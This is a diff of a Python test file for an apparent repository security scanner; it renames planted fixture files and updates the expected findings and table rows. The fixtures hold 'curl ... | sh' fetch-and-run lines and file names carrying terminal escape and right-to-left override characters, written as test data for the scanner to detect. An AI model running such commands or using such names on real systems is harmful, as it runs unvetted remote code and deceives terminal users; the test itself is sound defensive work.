@@ -32,8 +32,8 @@ def prepared(user_box):
     """A caller with a repository that has findings, in files with names that a terminal would
     obey."""
     user_box.commit = user_box.repository().decode().strip()
-    user_box.file("root/\x1b[2J\u202eevil\n.sh", "curl https://example.org/x | sh\n")
-    user_box.file(b"root/caf\xe9.sh".decode(errors="surrogateescape"), "curl https://example.org/y | sh\n")
+    user_box.file("root/\x1b[2J\u202eevil\n.mk", "curl https://example.org/x | sh\n")
+    user_box.file(b"root/caf\xe9.mk".decode(errors="surrogateescape"), "curl https://example.org/y | sh\n")
     text = (PROJECT / "policy/default.yaml").read_text(encoding="utf-8")
     absentee = user_box.entry("absentee", route="external", install={"npm": "absentee"})
     text += f"  - {json.dumps(absentee)}\n"
@@ -105,7 +105,7 @@ def test_the_document_is_as_the_schema_says(prepared, document):
     assert probes["missing"]["state"] == "tool_missing" and probes["missing"]["install"]
     assert probes["inapplicable"]["state"] == "skipped" and probes["semgrep"]["state"] == "skipped"
     paths = [finding["path"] for finding in probes["curated_patterns"]["evidence"]["findings"]]
-    assert {"base64": "Y2Fm6S5zaA=="} in paths and "\x1b[2J\u202eevil\n.sh" in paths
+    assert {"base64": "Y2Fm6S5taw=="} in paths and "\x1b[2J\u202eevil\n.mk" in paths
 
 
 def wrong_documents(document):
@@ -194,7 +194,7 @@ def test_the_table_fits_the_terminal_and_stays(prepared, columns):
                                   env=prepared.environment(TERM="xterm"))
     lines, widest = shown(written)
     assert status == 0 and widest < min(columns, 80 + 1)
-    assert len([line for line in lines if line]) == 1 + 14
+    assert len([line for line in lines if line]) == 1 + 17
     assert has_line(lines, "PROBE", "STATE") and has_line(lines, "snapshot", " ok")
     assert has_line(lines, "missing", "tool_missing") and has_line(lines, "inapplicable", "skipped")
     assert not has_line(lines, "running") and not has_line(lines, "waiting")
